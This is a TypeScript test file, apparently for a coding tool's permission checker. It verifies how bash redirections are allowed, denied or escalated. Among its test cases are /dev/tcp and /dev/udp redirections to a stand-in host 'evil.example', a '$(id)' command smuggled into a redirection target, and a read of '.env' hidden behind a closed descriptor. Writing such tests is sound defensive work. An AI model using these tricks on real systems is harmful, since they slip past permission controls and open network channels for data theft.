import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DEFAULT_RULES } from '../../../../../src/permissions/defaults/defaults.ts';
import { bashCall, evaluate, evaluateBash, policyOf } from '../../ask.ts';

/** Every file is free here, so that only what is not certain asks. */
const RULES = ['bash * allow', 'fs.read ** allow', 'fs.write ** allow'];

function check(command: string, expected: string, more: readonly string[] = []) {
  test(`${JSON.stringify(command)} is ${expected}`, async () => {
    const { decision, reason } = await evaluateBash(command, [...RULES, ...more]);
    assert.equal(decision, expected, reason);
  });
}

for (const command of [
  'ls > a',
  'ls >> a',
  'ls >| a',
  'ls &> a',
  'ls &>> a',
  'ls >& a',
  'ls <> a',
  'cat < a',
  'ls > "a b"',
  'ls > a\\$b',
  'ls > "~/a"',
  'ls {fd}> a',
  'ls {CI}> a',
  'cat <<< a',
  "cat <<'E'\n$[1]\nE",
  'cat <<E\n$HOME [1]\nE',
])
  check(command, 'allow');

// Bash closes the descriptor, and passes what follows as a word.
check('find . >&--delete', 'deny', ['bash find * -delete deny']);
check('cat <&-.env', 'deny', ['fs.read .env deny']);
check('git log 2>& -x -p', 'deny', ['bash git log x -p deny']);
check('cat a 2>&-b', 'ask');
check('{ ls; } >&-b', 'ask');
check('cat a 2>&-', 'allow');

test('a descriptor in a variable asks on macOS, whose bash is too old for it', async () => {
  const more = { platform: 'darwin' } as const;
  assert.equal((await evaluateBash('ls {fd}> a', RULES, more)).decision, 'ask');
  assert.equal((await evaluateBash('ls 3> a', RULES, more)).decision, 'allow');
});

for (const command of [
  'ls >',
  'ls > $a',
  'ls > a*',
  'ls > ~/a',
  'cat < ~/a',
  'ls >& $a',
  'ls >& a*',
  // Bash expands the target of `>&` twice: `ls >& '$(id)'` runs `id`.
  "ls >& '$(id)'",
  'ls >& a\\$b',
  'ls >& "a b"',
  'cat <& a',
  'cat <& $a',
  'ls {PATH}> a',
  'ls {http_proxy}> a',
  // Bash prints 2 for both.
  'cat <<E\n$[1+1]\nE',
  'cat <<E\n$\\\n[1+1]\nE',
  'cat <<E\na',
])
  check(command, 'ask');

/** No file: not even a rule that denies every write and read is about them. */
for (const command of [
  'ls 2>&1',
  'ls >&2',
  'ls >&-',
  'ls 3>&1-',
  'cat <&0',
  'cat <&-',
  'ls > /dev/null',
  'cat < /dev/stdin',
  'ls > /dev/stdout',
  'ls > /dev/fd/2',
  'ls >& /dev/stderr',
  'ls 2>&1 > /dev/stderr',
  'ls >& /dev/null',
])
  check(command, 'allow', ['fs.write ** deny', 'fs.read ** deny']);

for (const command of ['ls > a', 'ls >& a', 'ls >& 1a', 'ls <> a', 'ls &> a', 'ls > /dev/nulls'])
  check(command, 'deny', ['fs.write ** deny']);
for (const command of ['cat < a', 'cat <> a']) check(command, 'deny', ['fs.read ** deny']);
check('cat < a', 'allow', ['fs.write ** deny']);
check('cat > a', 'allow', ['fs.read ** deny']);

for (const command of ['cat < /dev/tcp/evil.example/80', 'ls >& /dev/udp/evil.example/53'])
  check(command, 'deny', ['net.fetch evil.example deny']);

/**
 * Linux opens the file behind a descriptor again, for whatever the new redirection wants: each of these but
 * `> /dev/fd/9` alone writes `a`, or reads it.
 */
for (const command of [
  'echo x < a > /dev/stdin',
  'echo x < a > /dev/fd/0',
  'echo x < a >> /dev/fd/0',
  'echo x < a >| /dev/stdin',
  'echo x < a >& /dev/stdin',
  'echo x < a &> /dev/stdin',
  'echo x < a <> /dev/stdin',
  'echo x 3< a > /dev/fd/3',
  'echo x {fd}< a > /dev/fd/10',
  'echo x 1< a > /dev/stdout',
  'echo x 2< a > /dev/stderr',
  'echo x 2< a > /dev/fd/2',
  'echo x < a 2>&0 > /dev/stderr',
  'echo x < a 2<&0 > /dev/stderr',
  'n=0; echo x < a 2>&$n > /dev/stderr',
  'f=/dev/stdin; echo x < a > "$f"',
  'echo x 3< a 1>&3 > /dev/stdout',
  'echo x 3< a 1>&3- > /dev/stdout',
  '{ echo x > /dev/stdin; } < a',
  '(echo x > /dev/stdout) 1< a',
  'while read -r l; do echo x > /dev/stdin; done < a',
  "bash -c 'echo x > /dev/stdin' < a",
  "bash -c 'echo x > /dev/stderr' 2< a",
  'cat 3>> a < /dev/fd/3',
  'cat >> a < /dev/stdout',
  'cat 0>> a < /dev/stdin',
  'cat >> a <&1 < /dev/stdin',
  'ls > /dev/fd/9',
])
  check(command, 'ask');

test('the shipped rules let no line write what it may only read', async () => {
  for (const line of ['echo x < src/f > /dev/stdin', "printf '%s' x 3< src/f > /dev/fd/3"]) {
    const policy = policyOf(DEFAULT_RULES);
    assert.equal((await evaluate(bashCall(line), policy)).decision, 'ask', line);
  }
  for (const line of ['echo x > /dev/stderr', 'cat < src/f > /dev/stdout', 'ls 2>&1 >/dev/stderr'])
    assert.equal((await evaluate(bashCall(line), policyOf(DEFAULT_RULES))).decision, 'allow', line);
});

// Bash expands the words of a command, and sets variables if they are all there is, before it opens files. Other
// shells open the files first, and leave the variables if that fails.
check('x=a; ! x=b > $x', 'deny', ['fs.write b deny']);
check('x=a; ! x=b > $x', 'deny', ['fs.write a deny']);
check('x=a; time x=b {fd}< $x', 'deny', ['fs.read b deny']);
check("sh -c 'x=b; ! x=a < f; cat $x'", 'deny', ['fs.read b deny']);
check("sh -c 'x=b; if ! x=a 2> f; then cat $x; fi'", 'deny', ['fs.read b deny']);
check('x=a; ! x=b > $x', 'allow');
for (const command of [
  'i=1; echo $((i=2)) > a$i',
  'i=1; ! x=$((i=2)) > a$i',
  'i=1; CI=$((i=2)) echo x > a$i',
  'i=1; echo "$((i+=1))" 2>> a$i < b',
])
  check(command, 'ask');
// It would empty a protected file.
check('x=src/a; ! x=.vscode/settings.json > $x', 'ask');
